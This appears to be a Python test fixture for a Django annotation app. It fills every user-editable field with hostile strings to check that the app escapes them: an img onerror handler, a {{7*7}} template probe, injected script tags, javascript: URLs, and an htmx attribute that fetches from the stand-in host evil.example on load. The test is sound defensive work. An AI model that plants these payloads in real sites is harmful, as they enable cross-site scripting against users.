"""Words that want to be code, in every place where a person may write words."""

from __future__ import annotations

from dataclasses import replace

from django.db.models import F, Value
from django.db.models.functions import Concat

from annotations.models import (
    ApiToken,
    Assignment,
    Claim,
    GuidelinesVersion,
    Invitation,
    Label,
    LabelSet,
    Project,
    Quote,
    Speaker,
    StagedFile,
    User,
)
from annotations.services import staging
from annotations.services.imports import Options, Source
from annotations.services.removals import remove_article
from tests.factories import make_article, make_assignment, make_quote, make_version
from tests.place import Place
from tests.world import World

SHORT = "\"'><img src=x onerror=window.__x=1>{{7*7}}"
LONG = f"</textarea></script><script>window.__x=1</script><a hx-get=//evil.example hx-trigger=load>{SHORT}"
STORY = (
    "Mayor Speaks {word}\n\n“The {word} is safe,” said Mayor {word}.\n\n<div hx-on:load='window.__x=1'>"
    "javascript:window.__x=1</div><!-- {word} --><style>body{{}}</style>&lt;script&gt;window.__x=1"
)


def make_hostile(world: World) -> Place:
    """Fill the desk of a world with such words, and return the manager's place on it."""
    place = world.own["manager"]
    manager, project = place.owner, place.project
    version = make_version(
        project,
        manager,
        STORY.format(word=LONG),
        headline=f"Mayor Speaks {LONG}",
        byline=f"byline {LONG}",
        outlet=f"outlet {LONG}",
        licence=f"licence {SHORT}",
        url=f"https://desk.example/?a={SHORT.replace(' ', '')}",
        key=f"key {SHORT}",
    )
    assignment = make_assignment(version, manager)
    quote = make_quote(
        assignment,
        manager,
        f"“The {LONG} is safe,”",
        source=f"Mayor {LONG}",
        cue="said",
        speaker=place.speaker.key,
        claims=[{"claim": place.claim.key, "stance": "denies"}],
        labels={"act": "demand"},
    )
    gold = Assignment.objects.create(project=project, version=version, status="gold")
    Quote.objects.create(project=project, assignment=gold, speaker=place.speaker)
    removed = make_article(project, manager, "A story that leaves.\n\nIt says little.")
    remove_article(actor=manager, article=removed, reason=f"reason {LONG}")
    # A removal throws away what waits for its import.
    source = Source("file.txt", b"A staged story.\n\nIt waits.")
    staged = staging.stage(actor=manager, project=project, sources=[source], options=Options())
    _rename()
    return replace(place, version=version, assignment=assignment, quote=quote, staged=staged)


def _rename() -> None:
    """Write the words past the services, which refuse some of them."""
    Project.objects.update(name=f"name {SHORT}", description=f"about {LONG}")
    GuidelinesVersion.objects.bulk_create(
        GuidelinesVersion(project=project, number=2, text=f"# guide {LONG}\n\n{LONG}")
        for project in Project.objects.all()
    )
    Speaker.objects.update(
        label=Concat(Value(f"label {LONG} "), F("key")),
        label_folded=Concat(Value(f"label {LONG} "), F("key")),
        description=f"description {LONG}",
        aliases=[f"alias {LONG}"],
    )
    Claim.objects.update(
        text=Concat(Value(f"claim {LONG} "), F("key")), text_folded=Concat(Value(f"claim {LONG} "), F("key"))
    )
    LabelSet.objects.update(name=f"set {SHORT}", question=f"question {LONG}")
    Label.objects.update(name=f"answer {SHORT}")
    User.objects.update(first_name=f"person {SHORT}")
    Invitation.objects.update(note=f"note {LONG}")
    ApiToken.objects.update(name=f"token {SHORT}")
    StagedFile.objects.update(name=f"file {LONG}.txt")


# Each of these must be readable somewhere, letter by letter.
READABLE = (
    *(f"{name} {LONG}" for name in ("about", "byline", "outlet", "reason", "label", "description", "alias")),
    *(f"{name} {LONG}" for name in ("claim", "question", "note", "file", "guide", "Mayor Speaks")),
    *(f"{name} {SHORT}" for name in ("name", "licence", "key", "set", "answer", "person", "token")),
)
